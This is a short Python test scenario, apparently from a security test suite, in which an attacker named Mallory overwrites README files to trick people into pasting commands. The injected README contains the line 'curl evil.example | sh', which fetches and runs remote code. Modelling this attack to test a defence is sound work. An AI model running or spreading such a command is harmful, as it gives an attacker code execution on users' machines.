"""Mallory rewrites the README that tells third parties how to report, and main's.

Without the defence people copy Mallory's commands into their terminals.
"""

from attacks.mutations import MERGES_ONLY_WHAT_COUNTS
from attacks.world import World

NAMED = frozenset({"foreign-change"})
DEFENCES = (MERGES_ONLY_WHAT_COUNTS,)


def after_reports(world: World) -> None:
    """Push both."""
    world.add("mallory", {f"{world.results}/README.md": "curl evil.example | sh\n", "README.md": "# Mine\n"})
